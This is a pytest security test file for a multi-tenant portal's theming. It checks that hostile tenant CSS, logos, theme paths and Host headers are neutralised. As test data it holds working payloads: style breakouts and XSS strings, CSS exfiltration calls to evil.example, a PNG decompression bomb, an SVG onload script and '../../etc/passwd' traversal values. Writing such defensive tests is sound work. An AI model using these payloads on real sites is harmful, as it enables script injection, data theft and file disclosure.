"""Hostile looks: custom CSS, pictures, theme names and hosts of one tenant touch nobody and nothing else."""

from __future__ import annotations

import io
import re
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from support.inside import Inside
from support.pace import within

MakeInside = Callable[..., Inside]

BREAKOUTS = [
    b"</style><script>alert(1)</script>",
    b"</STYLE\t><script src=//evil.example/x.js></script>",
    b"<!-- --><script>alert(1)</script>",
    b"a{} \\3c/style\\3e\\3cscript\\3e alert(1)",
    b"a{color:red}\x00<script>",
    b"@charset \"UTF-7\"; +ADw-script+AD4-alert(1)",
    b"\xff\xfe<script>",
    b"a{}" * 2_000_000,
]
STEALING = [
    "input[value^='a'] {background: url(http://evil.example/a)}",
    "@import 'http://evil.example/x.css';",
    "@import url(//evil.example/x.css);",
    "@font-face {font-family: x; src: url(http://evil.example/f); unicode-range: U+0041}",
    "body {background: image-set('http://evil.example/a' 1x)}",
    "body {background: -webkit-cross-fade(url(http://evil.example/a), url(//evil.example/b), 50%)}",
    ":root {--x: url(http://evil.example/a)} body {background: var(--x)}",
    "form:has(input[value='a']) {background: url('https://evil.example')}",
    "body {background: \\75rl(http://evil.example/a)}",
    "a {background: url(data:text/html,<script>alert(1)</script>)}",
]


def _with_css(portal_inside: MakeInside, css: bytes) -> Inside:
    inside = portal_inside({"tenants": {"acme": {"theme": {"css": "themes/own.css"}}}})
    (inside.folder / "themes" / "own.css").write_bytes(css)
    return inside


def _sheets(inside: Inside, host: str = "localhost") -> list[str]:
    page = inside.guest(host).get("/sign-in")
    assert page.status == 200
    return re.findall(r'<link rel="stylesheet" href="([^"]+)"', page.text)


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize("css", BREAKOUTS, ids=range(len(BREAKOUTS)))
def test_custom_css_cannot_break_out_of_its_own_file(portal_inside: MakeInside, css: bytes) -> None:
    inside = _with_css(portal_inside, css)
    page = inside.guest().get("/sign-in")
    assert page.status == 200
    assert "alert(1)" not in page.text
    for href in _sheets(inside):
        answer = inside.guest().get(href)
        assert answer.status == 200
        assert answer.headers["content-type"].startswith("text/css")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "<script" not in answer.text
        assert len(answer.body) < 200_000


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize("css", STEALING, ids=range(len(STEALING)))
def test_custom_css_fetches_nothing_from_elsewhere(portal_inside: MakeInside, css: str) -> None:
    inside = _with_css(portal_inside, (css + "\nh1 {letter-spacing: 1px}").encode())
    served = "".join(inside.guest().get(href).text for href in _sheets(inside) if href.startswith("/theme/"))
    assert "evil.example" not in served
    assert "data:" not in served
    assert "letter-spacing" in served, "what is harmless stays"
    problems = inside.portal.looks.problems(inside.portal.snapshot().tenants["acme"])
    assert any(problem.line >= 1 and "own.css" in problem.file for problem in problems), problems


@pytest.mark.engines("sqlite")
def test_a_look_belongs_to_one_tenant(portal_inside: MakeInside) -> None:
    inside = _with_css(portal_inside, b"h1 {outline: 7px solid}")
    mine = [href for href in _sheets(inside) if "custom" in href]
    assert mine
    assert not [href for href in _sheets(inside, "globex.localhost") if "custom" in href]
    foreign = inside.guest("globex.localhost").get(mine[0])
    nobody = inside.guest("globex.localhost").get("/theme/custom.0000000000000000.css")
    assert foreign.status == nobody.status == 404
    assert foreign.body == nobody.body


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b""))


def _good_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 20), "#0f766e").save(out, "PNG")
    return out.getvalue()


PICTURES = {
    "bomb.png": _png(50_000, 50_000),
    "cut.webp": b"RIFF\x00\x10\x00\x00WEBPVP8 ",
    "page.png": b"<html><script>alert(1)</script></html>",
    "vector.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "empty.png": b"",
}


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize("name", PICTURES)
def test_a_hostile_logo_costs_the_logo_only(portal_inside: MakeInside, name: str) -> None:
    inside = portal_inside({"tenants": {"acme": {"theme": {"logo": f"themes/{name}"}}}})
    (inside.folder / "themes" / name).write_bytes(PICTURES[name])
    with within(2):
        page = inside.guest().get("/sign-in")
    assert page.status == 200
    assert '<img src="/theme/' not in page.text
    assert inside.portal.looks.problems(inside.portal.snapshot().tenants["acme"])


@pytest.mark.engines("sqlite")
def test_a_logo_is_drawn_anew_and_never_sniffed(portal_inside: MakeInside) -> None:
    inside = portal_inside({"tenants": {"acme": {"theme": {"logo": "themes/logo.png"}}}})
    (inside.folder / "themes" / "logo.png").write_bytes(_good_png() + b"<script>alert(1)</script>")
    page = inside.guest().get("/sign-in")
    found = re.search(r'<img src="(/theme/[^"]+)"', page.text)
    assert found
    answer = inside.guest().get(found[1])
    assert answer.status == 200
    assert answer.headers["content-type"] in {"image/png", "image/webp"}
    assert b"<script" not in answer.body
    assert "sandbox" in answer.headers["content-security-policy"]


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize("value", ["../../etc/passwd", "/etc/passwd", "var/secret", "themes/../var/secret",
                                   "themes/link.css", "themes\\own.css"])
def test_no_file_outside_the_looks_is_read(portal_inside: MakeInside, value: str, tmp_path: Path) -> None:
    inside = portal_inside({"tenants": {"acme": {"theme": {"css": value}}}})
    outside = tmp_path / "outside.css"
    outside.write_text("h1 {outline: 9px dotted}")
    (inside.folder / "themes" / "link.css").symlink_to(outside)
    sheets = "".join(inside.guest().get(href).text for href in _sheets(inside) if href.startswith("/theme/"))
    assert "9px dotted" not in sheets
    assert "root:x" not in sheets
    assert not [href for href in _sheets(inside) if "custom" in href]


@pytest.mark.engines("sqlite")
def test_a_request_cannot_choose_a_theme(portal_inside: MakeInside) -> None:
    inside = portal_inside()
    plain, asked = (re.sub(r'name="_once" value="[^"]+"', "", inside.guest().get(path).text)
                    for path in ("/sign-in", "/sign-in?theme=../../etc"))
    assert plain == asked


@pytest.mark.engines("sqlite")
@pytest.mark.parametrize("host", ["evil.example", "www.localhost", "localhost.evil.example", "acme", "10.0.0.1",
                                  "xn--lcalhost-54a", "localhost\x0b"])
def test_an_unknown_host_gets_an_empty_404(portal_inside: MakeInside, host: str) -> None:
    inside = portal_inside()
    answer = inside.guest().send("GET", "/sign-in", headers={"Host": host})
    assert answer.status in {400, 404}
    assert answer.body == b""
    assert "parlour-config" not in answer.headers


@pytest.mark.engines("sqlite")
def test_forwarded_hosts_are_not_believed(portal_inside: MakeInside) -> None:
    inside = portal_inside()
    for header in ("X-Forwarded-Host", "Forwarded", "X-Host", "X-Original-Host"):
        value = "host=globex.localhost" if header == "Forwarded" else "globex.localhost"
        page = inside.guest().get("/sign-in", headers={header: value})
        assert "Acme Support" in page.text
        assert "Globex" not in page.text
